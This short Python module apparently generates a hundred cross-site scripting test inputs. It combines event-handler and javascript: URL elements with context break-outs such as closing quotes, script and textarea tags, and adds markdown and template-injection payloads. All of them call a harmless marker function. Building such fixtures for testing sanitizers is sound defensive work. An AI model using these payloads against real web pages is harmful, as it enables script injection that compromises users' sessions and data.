"""A hundred texts that run a script where a page takes them for markup, or puts them into an address or a script."""

from __future__ import annotations

from itertools import product

RUN = "ran()"
ELEMENTS = (
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<script>{RUN}</script>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<style onload={RUN}>*{{color:red}}</style>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<body onpageshow={RUN}>",
    f"<object data=javascript:{RUN}></object>",
)
FRAMES = ("{}", '">{}', "'>{}", "</textarea>{}", "</script>{}", "-->{}", "**{}**", "- {}")
OTHERS = (
    f"[x](javascript:{RUN})",
    f'![x](x" onerror="{RUN})',
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
)


def payloads() -> list[str]:
    """All of them."""
    return [frame.format(element) for frame, element in product(FRAMES, ELEMENTS)] + list(OTHERS)
